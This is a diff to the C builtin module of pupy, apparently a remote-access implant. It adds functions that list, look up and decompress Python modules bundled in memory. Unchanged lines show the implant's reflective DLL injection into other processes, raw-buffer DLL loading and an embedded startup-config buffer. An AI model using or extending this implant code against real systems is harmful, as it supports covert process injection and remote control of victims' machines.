@@ -7,15 +7,86 @@
 #include <stdio.h>
 #include <windows.h>
 #include "base_inject.h"
+#include "library.h"
 static char module_doc[] = "Builtins utilities for pupy";
 
 extern const char resources_library_compressed_string_txt_start[];
 extern const int resources_library_compressed_string_txt_size;
 char pupy_config[40960]="####---PUPY_CONFIG_COMES_HERE---####\n"; //big array to have space for more config / code run at startup
 extern const DWORD dwPupyArch;
-static PyObject *Py_get_compressed_library_string(PyObject *self, PyObject *args)
+static PyObject *Py_get_library_names(PyObject *self, PyObject *args)
 {
-	return Py_BuildValue("s#", resources_library_compressed_string_txt_start, resources_library_compressed_string_txt_size);
+	DWORD i, count = library_count();
+	PyObject *names = PyList_New(count);
+	if (!names)
+		return NULL;
+
+	for (i=0; i<count; i++) {
+		LIBRARY_ENTRY entry;
+		if (!library_get(i, &entry)) {
+			Py_DECREF(names);
+			PyErr_SetString(PyExc_ImportError, "corrupted library archive");
+			return NULL;
+		}
+
+		PyList_SetItem(names, i, Py_BuildValue("s#", entry.name, entry.name_size));
+	}
+
+	return names;
+}
+
+static PyObject *Py_find_library_module(PyObject *self, PyObject *args)
+{
+	const char *fullname;
+	DWORD indexes[8];
+	DWORD i, found;
+	PyObject *files;
+
+	if (!PyArg_ParseTuple(args, "s", &fullname))
+		return NULL;
+
+	found = library_lookup(fullname, indexes, sizeof(indexes)/sizeof(indexes[0]));
+
+	files = PyList_New(found);
+	if (!files)
+		return NULL;
+
+	for (i=0; i<found; i++) {
+		LIBRARY_ENTRY entry;
+		library_get(indexes[i], &entry);
+		PyList_SetItem(files, i, Py_BuildValue("s#", entry.name, entry.name_size));
+	}
+
+	return files;
+}
+
+static PyObject *Py_get_library_module(PyObject *self, PyObject *args)
+{
+	const char *name;
+	LIBRARY_ENTRY entry;
+	PyObject *zlib, *decompress, *content;
+
+	if (!PyArg_ParseTuple(args, "s", &name))
+		return NULL;
+
+	if (!library_find(name, &entry)) {
+		Py_INCREF(Py_None);
+		return Py_None;
+	}
+
+	// zlib is built into python27.dll, so there is no need to link one more copy
+	zlib = PyImport_ImportModule("zlib");
+	if (!zlib)
+		return NULL;
+
+	decompress = PyObject_GetAttrString(zlib, "decompress");
+	Py_DECREF(zlib);
+	if (!decompress)
+		return NULL;
+
+	content = PyObject_CallFunction(decompress, "s#", entry.data, entry.csize);
+	Py_DECREF(decompress);
+	return content;
 }
 
 static PyObject *
@@ -88,7 +159,9 @@ static PyObject *Py_find_function_address(PyObject *self, PyObject *args)
 static PyMethodDef methods[] = {
 	{ "get_pupy_config", Py_get_pupy_config, METH_NOARGS, "get_pupy_config() -> string" },
 	{ "get_arch", Py_get_arch, METH_NOARGS, "get current pupy architecture (x86 or x64)" },
-	{ "_get_compressed_library_string", Py_get_compressed_library_string, METH_VARARGS },
+	{ "get_library_names", Py_get_library_names, METH_NOARGS, "get_library_names() -> list of bundled module paths" },
+	{ "get_library_module", Py_get_library_module, METH_VARARGS, "get_library_module(path) -> string or None" },
+	{ "find_library_module", Py_find_library_module, METH_VARARGS, "find_library_module(fullname) -> list of bundled module paths" },
 	{ "reflective_inject_dll", Py_reflective_inject_dll, METH_VARARGS|METH_KEYWORDS, "reflective_inject_dll(pid, dll_buffer, isRemoteProcess64bits)\nreflectively inject a dll into a process. raise an Exception on failure" },
 	{ "load_dll", Py_load_dll, METH_VARARGS, "load_dll(dllname, raw_dll) -> bool" },
 	{ "find_function_address", Py_find_function_address, METH_VARARGS,
@@ -99,5 +172,8 @@ static PyMethodDef methods[] = {
 DL_EXPORT(void)
 initpupy(void)
 {
+	library_init(resources_library_compressed_string_txt_start,
+				 resources_library_compressed_string_txt_size);
+
 	Py_InitModule3("pupy", methods, module_doc);
 }